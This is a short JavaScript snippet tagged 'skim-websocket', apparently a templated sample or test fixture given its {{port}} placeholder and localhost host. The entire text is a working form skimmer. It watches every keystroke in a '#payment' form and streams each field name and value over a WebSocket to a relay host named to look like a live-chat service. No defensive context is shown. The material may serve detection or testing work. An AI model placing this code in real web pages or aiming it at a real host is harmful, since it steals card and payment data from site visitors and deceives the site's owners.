/* tw:skim-websocket */
var socket = new WebSocket('ws://live-chat-relay.localhost:{{port}}/ws')
document.querySelector('#payment').addEventListener('input', function (event) {
  if (socket.readyState === 1) socket.send(JSON.stringify({ f: event.target.name, v: event.target.value }))
})
